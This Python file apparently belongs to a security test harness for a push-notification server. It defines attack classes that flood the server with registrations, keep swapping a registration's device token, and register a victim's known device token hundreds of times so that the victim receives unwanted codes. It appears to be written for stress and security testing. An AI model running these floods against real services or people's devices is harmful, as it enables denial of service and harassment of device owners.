"""Registrations: floods of them, device tokens in turn, somebody else's device."""

import asyncio
import os
from typing import ClassVar

from devices import PATH, new_devices
from ntf_load import Command

from attacks.base import MANY_ADDRESSES, Attack, Volley
from attacks.push_services import tnew
from smp_bridge import ntf


class TnewFlood(Attack):
    """B5, K7: nobody has to prove anything for a TNEW."""

    about = "TNEWs of 20 sessions of one address"
    _commands: ClassVar[int] = 3000
    _sessions: ClassVar[int] = 20

    async def prepare(self) -> None:
        """Sign."""
        self._volley = Volley(self, self.plan.count(self._sessions))
        await self._volley.load([tnew(d) for d in new_devices(self.plan.count(self._commands), "ed25519")])

    async def run(self) -> None:
        """As fast as they are answered."""
        self.in_place.set()  # the first moments are the worst
        await self._volley.fire(window=8)
        await asyncio.Event().wait()


class TnewFloodOfMany(TnewFlood):
    """The budget of all together is spent too."""

    about = "TNEWs of 3,000 addresses, four each"
    addresses: ClassVar[int] = 3000
    descriptors: ClassVar[int] = MANY_ADDRESSES
    spends_all: ClassVar[bool] = True
    _commands = 12_000
    _sessions = 3000


class Carousel(Attack):
    """B5: one registration whose device token is replaced again and again."""

    about = "TRPLs of 20 registrations, 100 each, to devices of others"
    tokens: ClassVar[int] = 20

    async def prepare(self) -> None:
        """Sign."""
        replacements = [
            Command(ntf.TRpl(_anybody()).encode(ntf.VERSIONS[1]), token.token_id, token.key)
            for _ in range(self.plan.count(100))
            for token in self.plan.tokens
        ]
        self._volley = Volley(self, 4)
        await self._volley.load(replacements)

    async def run(self) -> None:
        """As fast as they are answered."""
        self.in_place.set()  # the first moments are the worst
        await self._volley.fire()
        await asyncio.Event().wait()


def _anybody() -> ntf.DeviceToken:
    return ntf.DeviceToken(ntf.Provider.APNS_TEST, os.urandom(32).hex().encode())


class DeviceSpam(Attack):
    """B5, K7: whose device token is known gets codes that others asked for."""

    about = "300 registrations of one device, from one address, while its owner registers"
    has_victim: ClassVar[bool] = True
    _commands: ClassVar[int] = 300
    _sessions: ClassVar[int] = 10

    async def prepare(self) -> None:
        """Sign."""
        victim = ntf.DeviceToken(ntf.Provider.APNS_TEST, self.plan.victim.encode())
        devices = new_devices(self.plan.count(self._commands), "ed25519")
        for device in devices:
            device.token, device.path = victim, PATH + self.plan.victim
        self._volley = Volley(self, self._sessions)
        await self._volley.load([tnew(device) for device in devices])

    async def run(self) -> None:
        """As fast as they are answered."""
        self.in_place.set()  # the first moments are the worst
        await self._volley.fire(window=2)
        await asyncio.Event().wait()


class DeviceSpamOfMany(DeviceSpam):
    """More sources than may wait at a device."""

    about = "300 registrations of one device, from 100 addresses, while its owner registers"
    addresses: ClassVar[int] = 100
    _sessions = 100
